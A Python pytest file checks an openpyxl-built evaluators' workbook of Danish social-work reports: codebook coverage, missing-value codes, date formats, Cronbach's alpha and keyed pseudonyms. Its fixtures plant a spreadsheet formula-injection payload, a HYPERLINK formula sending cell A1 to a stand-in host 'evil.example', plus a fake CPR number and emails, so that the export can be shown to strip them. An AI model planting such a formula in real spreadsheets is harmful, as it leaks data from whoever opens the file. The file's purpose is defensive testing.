"""The evaluators' workbook read back with openpyxl (issue #6 "Done when"), on plain records."""

from __future__ import annotations

import io
import random
import re
import statistics
import zipfile
from datetime import UTC, date, datetime

import openpyxl
import pytest

import forms
from exports.identifiers import scan
from exports.pseudonyms import Pseudonymizer
from exports.workbook import NOT_APPLICABLE, SHEETS, ExportOptions, ReportRecord, SurveyRecord, build_workbook
from forms.sample import sample_answers

SKP = forms.get_definition("skp_monthly")
CW = forms.get_definition("caseworker")
PERIODIC = frozenset({"del2", "del5", "del6"})
INTAKE = frozenset({"del1", "del3", "del4"}) | PERIODIC
MONTHLY = frozenset({"del3", "del4"})
CLOSING = MONTHLY | PERIODIC | {"del7"}
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
NICKNAMES = ["Bamse Hansen", HYPERLINK, "Lille My"]
WORKER_NAMES = ["Jens Jørgensen"]
CPR_TEXT = "Bor hos søster, cpr 010190-1234, ring 23 45 67 89"
#: The row-level microdata export (no k enforced): the sheets' full layout; the anonymised default
#: is tested in test_disclosure.py.
PSEUDONYMISED = {"mode": "pseudonymised", "legal_basis": "Databehandleraftale 2026-01", "recipient": "Evaluator A"}
PSEUDONYM = re.compile(r"[KMFSE][0-9A-HJKMNP-TV-Z]{9}")


def _records(seed: int = 7) -> list[ReportRecord]:
    """Three courses, each intake (Jan), monthly (Feb, Mar), periodic-less closing (Apr) months."""
    rng = random.Random(seed)
    records = []
    for n in range(1, 7):
        months = [("2024-01", INTAKE), ("2024-02", MONTHLY), ("2024-03", MONTHLY), ("2024-04", CLOSING)]
        for period, sections in months:
            overrides: dict[str, object] = {"q16": 2, "q16_dato": "2024-01-10", "q40": "2024-04-20"}
            if period == "2024-01":
                overrides.update(q3=2, q6=5, q6_andet=CPR_TEXT if n == 1 else "Bor i kolonihave",
                                 q7=[1, 3], q20_2=77 if n == 2 else rng.choice([0, 1, 2, 3]))
            answers = sample_answers(SKP, sections, rng=rng, overrides=overrides, reference=date(2024, 1, 20))
            if period == "2024-01":
                answers.pop("q22", None)  # asked, not answered: a blank cell
                # things that must never leave, whatever is stored
                answers.update(kaldenavn=NICKNAMES[n % 3], km_navn="Jens Jørgensen", email="jens@example.dk")
                if n == 3:
                    answers["q5"] = HYPERLINK  # a stray text in a code field
            records.append(ReportRecord(
                client_id=n, worker_id=100 + n % 2, course_id=1000 + n, course_number=1, municipality="Esbjerg",
                intake=date(2024, 1, 1), contact_start=date(2024, 1, 10), closing=date(2024, 4, 1),
                course_status="closed", period=date.fromisoformat(period + "-01"), answers=answers,
                definition_version=1, closes_course=period == "2024-04", sections=sections,
            ))
    return records


def _survey() -> list[SurveyRecord]:
    rows = []
    for user in range(1, 5):
        base = {"b1": 5, "b2": 4, "b3": 3 + user % 2, "b4": 77 if user == 1 else 4, "b5": 2 + user % 3, "b6": 5,
                "kommentar": "Skriv til mig på sb@kommune.dk"}
        rows.append(SurveyRecord(user, 7, "Esbjerg", 1, "baseline", date(2024, 1, 1), base, 1))
        follow = {**base, "b1": 4, "f1": 5, "f2": 4, "f3": 3, "f4": 2}
        rows.append(SurveyRecord(user, 7, "Esbjerg", 2, "followup", date(2024, 9, 1), follow, 1))
    return rows


def _build(pseudonyms: Pseudonymizer | None = None, *, free_text: bool = False, date_mode: str = "year_month",
           records: list[ReportRecord] | None = None) -> bytes:
    data = records if records is not None else _records()
    out = io.BytesIO()
    build_workbook(
        out, reports=lambda: iter(data), survey=lambda: iter(_survey()), skp_definition=SKP,
        caseworker_definition=CW,
        options=ExportOptions(pseudonyms or Pseudonymizer.keyed(b"a" * 32), datetime(2024, 5, 2, tzinfo=UTC),
                              date_mode=date_mode, include_free_text=free_text,
                              known_terms=[*NICKNAMES, *WORKER_NAMES], filters={"Kommune": "Esbjerg"},
                              **PSEUDONYMISED),
    )
    return out.getvalue()


def _sheets(data: bytes) -> dict[str, list[tuple]]:
    book = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    return {ws.title: list(ws.iter_rows(values_only=True)) for ws in book.worksheets}


def _table(rows: list[tuple]) -> list[dict]:
    header = rows[0]
    return [dict(zip(header, row, strict=False)) for row in rows[1:]]


@pytest.fixture(scope="module")
def workbook() -> bytes:
    return _build()


@pytest.fixture(scope="module")
def sheets(workbook: bytes) -> dict[str, list[tuple]]:
    return _sheets(workbook)


def test_sheets_are_there_in_order(sheets):
    assert list(sheets) == list(SHEETS.values())


def test_every_codebook_variable_has_a_column_and_vice_versa(sheets):
    codebook = _table(sheets["Kodebog"])
    for name in ("Indberetninger", "Forløb", "Sagsbehandlere", "Skalaer", "Reliabilitet"):
        header = list(sheets[name][0])
        assert len(header) == len(set(header)), name
        documented = [row["Variabel"] for row in codebook if row["Ark"] == name]
        assert len(documented) == len(set(documented)), name
        assert set(header) == set(documented), name


def test_codes_multi_options_and_grid_items_survive_exactly(sheets):
    rows = _table(sheets["Indberetninger"])
    intake = [r for r in rows if r["maaling_type"] == "indskrivning"]
    assert len(intake) == 6
    for row in intake:
        assert row["q3"] == 2
        assert (row["q7_1"], row["q7_2"], row["q7_3"]) == (1, 0, 1)
        assert row["q6"] == 5
    assert [r["q20_2"] for r in intake][1] == 77
    original = {r.course_id: r.answers for r in _records() if r.period == date(2024, 1, 1)}
    for row, answers in zip(intake, original.values(), strict=True):
        for key in ("q4", "q8", "q9", "q20_1", "q20_3", "q24"):
            assert row[key] == answers[key], key


def test_not_applicable_differs_from_blank_and_77(sheets):
    rows = _table(sheets["Indberetninger"])
    intake = [r for r in rows if r["maaling_type"] == "indskrivning"]
    monthly = [r for r in rows if r["maaling_type"] == "maanedlig"]
    assert all(r["q22"] is None for r in intake)  # asked, not answered
    assert all(r["q20_1"] == NOT_APPLICABLE and r["q3"] == NOT_APPLICABLE for r in monthly)  # not due
    assert all(r["q7_1"] == NOT_APPLICABLE for r in monthly)
    assert intake[1]["q20_2"] == 77
    assert len({NOT_APPLICABLE, None, 77}) == 3
    hidden = [r for r in intake if r["q15"] is not None and r["q15"] != 2]
    # a follow-up hidden by a rule is not applicable either (text in a YYYY-MM date column)
    assert all(r["q15_dato"] == str(NOT_APPLICABLE) for r in hidden)
    codebook = _table(sheets["Kodebog"])
    q20 = next(r for r in codebook if r["Variabel"] == "q20_2" and r["Ark"] == "Indberetninger")
    assert "77 = Ved ikke" in q20["Manglende-koder"] and str(NOT_APPLICABLE) in q20["Ikke relevant"]


def test_date_columns_hold_one_type_each(sheets):
    """Issue 18: in the year-month date mode a date column holds YYYY-MM texts, and "not applicable"
    is the text '-999' there (never the number beside the texts); the codebook says so."""
    month = re.compile(r"\d{4}-(0[1-9]|1[0-2])")
    for sheet in ("Indberetninger", "Forløb"):
        rows = _table(sheets[sheet])
        for column in ("q15_dato", "q16_dato", "q17_dato", "q40"):
            if column not in rows[0]:
                continue
            values = [r[column] for r in rows if r[column] is not None]
            assert values and all(isinstance(v, str) for v in values), (sheet, column)
            assert all(v == str(NOT_APPLICABLE) or month.fullmatch(v) for v in values), (sheet, column)
    assert any(r["q15_dato"] == str(NOT_APPLICABLE) for r in _table(sheets["Indberetninger"]))
    codebook = _table(sheets["Kodebog"])
    q15 = next(r for r in codebook if r["Variabel"] == "q15_dato" and r["Ark"] == "Indberetninger")
    assert f"'{NOT_APPLICABLE}' (som tekst)" in q15["Ikke relevant"]
    about = " ".join(str(r[1]) for r in sheets["Om udtrækket"])
    assert f"teksten '{NOT_APPLICABLE}'" in about


def test_date_columns_stay_numbers_in_months_since_start():
    rows = _table(_sheets(_build(date_mode="months_since_start"))["Indberetninger"])
    values = [r["q15_dato"] for r in rows if r["q15_dato"] is not None]
    assert values and all(type(v) is int for v in values)
    assert NOT_APPLICABLE in values


def _independent_alpha(item_rows: list[list[int]]) -> float:
    k = len(item_rows[0])
    item_vars = [statistics.pvariance([row[i] for row in item_rows]) for i in range(k)]
    total_var = statistics.pvariance([sum(row) for row in item_rows])
    return k / (k - 1) * (1 - sum(item_vars) / total_var)


def test_alpha_equals_an_independent_computation(sheets):
    items = [s for s in SKP.scales if s.key == "psykisk_tilstand"][0].items
    complete = []
    for record in _records():
        if "del2" not in record.sections:
            continue
        values = [record.answers.get(key) for key in items]
        if all(type(v) is int and v != 77 for v in values):
            complete.append(values)
    expected = _independent_alpha(complete)
    alpha = {(r["skala"], r["maaling"]): r for r in _table(sheets["Reliabilitet"])}
    row = alpha[("psykisk_tilstand", "alle")]
    assert row["n"] == len(complete)
    assert row["alpha"] == pytest.approx(expected, abs=1e-6)
    cw_rows = [[r.answers[f"b{i}"] for i in range(1, 7)] for r in _survey() if r.wave_kind == "followup"]
    cw_rows = [v for v in cw_rows if 77 not in v]
    cw = alpha[("sagsbehandler_koordinering", "followup")]
    assert cw["n"] == len(cw_rows) < 10
    assert cw["alpha"] is None and cw["vurdering"] == "for få"  # D23: no alpha below n = 10


def test_alpha_is_not_shown_below_ten_complete_answers(sheets):
    rows = _table(sheets["Reliabilitet"])
    assert rows and all((r["alpha"] is None and r["vurdering"] == "for få") == (r["n"] < 10) for r in rows)


def test_scale_scores_follow_the_scoring_rule(sheets):
    scores = [r for r in _table(sheets["Skalaer"]) if r["skala"] == "psykisk_tilstand"]
    prorated = [r for r in scores if r["antal_besvaret"] == 5]
    assert prorated and all(r["prorateret"] == 1 and r["score"] == pytest.approx(r["gennemsnit"] * 6, abs=1e-4)
                            for r in prorated)


def test_caseworkers_have_one_row_with_both_waves(sheets):
    rows = _table(sheets["Sagsbehandlere"])
    assert len(rows) == 4
    for row in rows:
        assert row["bl_besvaret"] == 1 and row["op_besvaret"] == 1
        assert row["op_b1"] == 4 and row["bl_b1"] == 5 and row["op_f4"] == 2
    assert "bl_f1" not in rows[0]  # not asked at baseline: no column


def test_courses_have_derived_variables_and_isbryder_components(sheets):
    rows = _table(sheets["Forløb"])
    assert len(rows) == 6
    for row in rows:
        assert row["antal_indberetninger"] == 4 and row["forloeb_afsluttet"] == 1
        assert row["forloeb_laengde_mdr"] == 3  # q40 2024-04 minus contact start 2024-01
        assert row["koen"] == 2
        assert row["isbryder_maalgruppe"] in (0, 1, None)
        assert "q41" in row and "q3" in row


def test_pseudonyms_are_stable_under_one_key_and_differ_under_two():
    def clients(data: bytes) -> list[str]:
        return [r["klient"] for r in _table(_sheets(data)["Indberetninger"])]

    one = clients(_build(Pseudonymizer.keyed(b"k" * 32)))
    again = clients(_build(Pseudonymizer.keyed(b"k" * 32)))
    other = clients(_build(Pseudonymizer.keyed(b"z" * 32)))
    random_a = clients(_build(Pseudonymizer.per_export()))
    assert one == again
    assert all(PSEUDONYM.fullmatch(p) and p.startswith("K") for p in one)
    assert set(one).isdisjoint(other)
    assert set(one).isdisjoint(random_a)
    assert len(set(one)) == 6


def _all_text(data: bytes) -> tuple[list[str], list[str]]:
    """Every cell value (as text), sheet name and document property; plus the raw XML parts."""
    texts: list[str] = []
    book = openpyxl.load_workbook(io.BytesIO(data))
    for ws in book.worksheets:
        texts.append(ws.title)
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate)
                if cell.value is not None:
                    texts.append(str(cell.value))
    props = book.properties
    texts += [str(getattr(props, name)) for name in ("creator", "lastModifiedBy", "title", "subject", "description",
                                                     "keywords", "category") if getattr(props, name)]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = [archive.read(name).decode("utf-8") for name in archive.namelist()]
    return texts, parts


@pytest.mark.parametrize("free_text", [False, True])
@pytest.mark.parametrize("date_mode", ["year_month", "months_since_start"])
def test_scanner_finds_no_identifier_or_formula_anywhere(free_text, date_mode):
    data = _build(free_text=free_text, date_mode=date_mode)
    texts, parts = _all_text(data)
    for part in parts:
        assert "<f>" not in part and "<f " not in part
        for term in [*NICKNAMES, *WORKER_NAMES, "HYPERLINK", "jens@example.dk", "010190"]:
            assert term.lower() not in part.lower(), term
    for text in texts:
        if PSEUDONYM.fullmatch(text):
            continue
        # the narrow patterns: the file's own Danish documentation has capitalised words ("Om udtrækket")
        assert scan(text, [*NICKNAMES, *WORKER_NAMES], names=False) == [], text
        assert not text.startswith("="), text
    joined = "\n".join(texts)
    assert "Bor i kolonihave" in joined if free_text else "Bor i kolonihave" not in joined
    if free_text:
        assert "[tekst udeladt: mulig identifikator]" in joined
        about = _table(_sheets(data)["Om udtrækket"])
        assert any("Fritekst er medtaget" in str(r["Beskrivelse"]) for r in about)


def test_months_since_start_mode_has_no_calendar_month(sheets):
    rows = _table(_sheets(_build(date_mode="months_since_start"))["Indberetninger"])
    assert "maaned" not in rows[0]
    assert {r["q16_dato"] for r in rows if r["maaling_type"] == "indskrivning"} == {0}
    for row in rows:
        assert not any(isinstance(v, str) and re.fullmatch(r"\d{4}-\d{2}", v) for v in row.values())


def test_about_sheet_documents_the_export(sheets):
    about = {r["Emne"]: r["Beskrivelse"] for r in _table(sheets["Om udtrækket"])}
    assert about["Filter: Kommune"] == "Esbjerg"
    assert "HMAC" in about["Pseudonymer"]
    assert about["Rækker: Indberetninger"] == 24
    assert about["Definitionsversioner: skp_monthly"] == "1"
    assert "Undertrykkelseslog" in about


def test_the_reports_are_read_from_their_source_once_for_all_sheets() -> None:
    calls: list[int] = []
    data = _records()

    def reports():  # type: ignore[no-untyped-def]
        calls.append(1)
        return iter(data)

    build_workbook(
        io.BytesIO(), reports=reports, survey=lambda: iter(_survey()), skp_definition=SKP, caseworker_definition=CW,
        options=ExportOptions(Pseudonymizer.keyed(b"a" * 32), datetime(2024, 5, 2, tzinfo=UTC), **PSEUDONYMISED),
    )
    assert calls == [1]


def test_the_garbage_collector_settings_are_restored_after_an_export_even_a_failed_one() -> None:
    import gc

    before = gc.get_threshold()

    def broken():  # type: ignore[no-untyped-def]
        yield from _records()[:3]
        raise RuntimeError("the database went away")

    with pytest.raises(RuntimeError, match="went away"):
        build_workbook(
            io.BytesIO(), reports=broken, survey=lambda: iter(()), skp_definition=SKP, caseworker_definition=CW,
            options=ExportOptions(Pseudonymizer.keyed(b"a" * 32), datetime(2024, 5, 2, tzinfo=UTC)),
        )
    _build()
    assert gc.get_threshold() == before and gc.get_freeze_count() == 0
